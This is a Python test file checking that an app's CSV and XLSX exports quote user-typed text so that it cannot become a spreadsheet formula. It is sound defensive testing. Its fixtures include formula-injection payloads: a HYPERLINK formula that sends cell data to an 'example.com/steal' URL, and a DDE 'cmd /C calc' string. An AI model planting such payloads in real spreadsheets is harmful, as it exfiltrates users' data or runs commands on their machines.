"""Exports that cannot run code: text a user typed never becomes a formula in a CSV or XLSX the app writes
(the 自评表 on the web and from `fieldlog rollup --out`, the import templates), while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from fieldlog import cli, exports
from fieldlog.indicators import entries, tables
from tests.factories import NOW, site, user

HYPERLINK = '=HYPERLINK("http://example.com/steal?d="&A1,"点此查看附件")'
# The chief's 偏差原因分析 notes, row by row.
NOTES = {"safety_patrols": HYPERLINK, "leaflets": "+1+1", "permits": "-2+3", "campaigns": "@SUM(A1:A9)"}
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def entered(db, users):
    """A year whose chief typed formulas: in notes, in a manual value and its source document, in a site name."""
    site(db, name="=1+2")
    table, carol = tables.table_for_year(db, 2021), user(db, "carol")
    entries.save_manual_value(db, 2021, table.row("staff"), {"value": "-2+3", "grade": "达成",
                                                             "source_document": "=cmd|' /C calc'!A0"}, carol, now=NOW)
    # Text that is only a number stays as it is: a spreadsheet reads it as that number, never as a formula.
    entries.save_manual_value(db, 2021, table.row("operations"), {"value": "-5", "grade": "达成",
                                                                  "source_document": "@决算报表"}, carol, now=NOW)
    for key, text in NOTES.items():
        entries.save_note(db, 2021, key, text, carol, now=NOW)
    return db


def _unsafe(text: str) -> bool:
    return text.startswith(STARTS) and not exports.PLAIN_NUMBER.fullmatch(text)


def check_xlsx(content: bytes) -> set:
    ws = load_workbook(io.BytesIO(content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and _unsafe(c.value)] == []
    return {c.value for c in cells}


def check_csv(content: bytes) -> set:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    values = {v for row in rows for v in row if v}
    assert [v for v in values if _unsafe(v)] == []
    return values


def assert_neutralized(values: set) -> None:
    assert {"'" + HYPERLINK, "'+1+1", "'-2+3", "'@SUM(A1:A9)", "-5"} <= values
    assert not {HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)"} & values


def test_web_xlsx_export_has_no_formula(entered, client_for):
    r = client_for("carol").get("/indicators/2021/evaluation.xlsx?as_of=2021-12-31")
    assert r.status_code == 200
    assert_neutralized(check_xlsx(r.content))  # the old code: a formula cell for the HYPERLINK note


def test_a_control_character_in_a_note_neither_breaks_the_xlsx_nor_hides_a_formula(db, users, client_for):
    entries.save_note(db, 2021, "permits", "\x07=1+1", user(db, "carol"), now=NOW)
    r = client_for("carol").get("/indicators/2021/evaluation.xlsx?as_of=2021-12-31")
    assert r.status_code == 200  # the old code: openpyxl's IllegalCharacterError, a 500
    assert "'=1+1" in check_xlsx(r.content)  # the character XLSX cannot hold is dropped, then the text quoted
    assert "\x07=1+1" in check_csv(client_for("carol").get("/indicators/2021/evaluation.csv?as_of=2021-12-31").content)


def test_web_csv_export_has_no_formula(entered, client_for):
    r = client_for("carol").get("/indicators/2021/evaluation.csv?as_of=2021-12-31")
    assert r.status_code == 200
    assert_neutralized(check_csv(r.content))


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_cli_rollup_out_has_no_formula(entered, cfg, tmp_path, monkeypatch, suffix):
    monkeypatch.setenv("FIELDLOG_DATABASE", str(cfg.database))
    monkeypatch.setenv("FIELDLOG_DATA_DIR", str(cfg.data_dir))
    out = tmp_path / f"rollup.{suffix}"
    result = CliRunner().invoke(cli.main, ["rollup", "--year", "2021", "--as-of", "2021-12-31", "--out", str(out)])
    assert result.exit_code == 0, result.output
    values = check_xlsx(out.read_bytes()) if suffix == "xlsx" else check_csv(out.read_bytes())
    assert_neutralized(values)


@pytest.mark.parametrize("kind", ["sites", "plants"])
def test_import_templates_have_no_formula_and_keep_their_dates(kind, client_for):
    admin = client_for("dave")
    xlsx = admin.get(f"/{kind}/import/template.xlsx")
    check_xlsx(xlsx.content)
    assert any(c.is_date for c in load_workbook(io.BytesIO(xlsx.content)).active[2])  # dates stay date cells
    check_csv(admin.get(f"/{kind}/import/template.csv").content)


# Writing a cell any other way than through fieldlog.exports (the old code wrote through these directly).
DIRECT_WRITES = re.compile(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\bws\[[^]]+\]\s*=[^=]|\.cell\([^)]*value=")


def test_every_export_writes_through_the_one_helper():
    root = Path(exports.__file__).parent
    direct = [f"{path.relative_to(root)}:{n}" for path in sorted(root.rglob("*.py")) if path.name != "exports.py"
              for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if DIRECT_WRITES.search(line)]
    assert direct == []


# --- the helper: one for every export --------------------------------------------------------------------

def test_cell_quotes_formula_text_and_leaves_numbers_alone():
    assert [exports.cell(v) for v in ("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")] == [
        "'=1+1", "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\r=1+1"]
    assert [exports.cell(v) for v in (-3.5, 0, 12, "-2", "+5", "-0.5%", "1e-3", "-", "备注 =1")] == [
        -3.5, 0, 12, "-2", "+5", "-0.5%", "1e-3", "'-", "备注 =1"]
    assert exports.cell(None) is None and exports.cell(date(2021, 3, 1)) == date(2021, 3, 1)


def test_csv_writer_and_xlsx_append_write_numbers_as_numbers_and_quote_formulas():
    values = [-3.5, 7, "-2", "-2+3", "\t=1+1", "\r=1+1", None, date(2021, 3, 1)]
    buf = io.StringIO(newline="")
    exports.csv_writer(buf).writerows([values])
    assert next(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [
        "-3.5", "7", "-2", "'-2+3", "'\t=1+1", "'\r=1+1", "", "2021-03-01"]
    wb = Workbook()
    exports.append(wb.active, values)
    out = io.BytesIO()
    wb.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active[1])
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        (-3.5, "n"), (7, "n"), ("-2", "s"), ("'-2+3", "s"), ("'\t=1+1", "s")]
    assert (cells[5].value, cells[5].data_type) == ("'\n=1+1", "s")  # XML reads a raw carriage return as \n
    assert cells[7].is_date
